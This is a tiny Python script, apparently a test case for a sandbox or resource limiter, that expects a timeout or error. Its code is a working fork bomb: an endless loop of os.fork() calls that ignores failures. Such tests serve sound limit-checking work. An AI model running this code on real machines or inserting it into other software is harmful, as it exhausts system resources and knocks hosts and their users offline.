# Every process forks for ever.
# expect: timeout|error
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
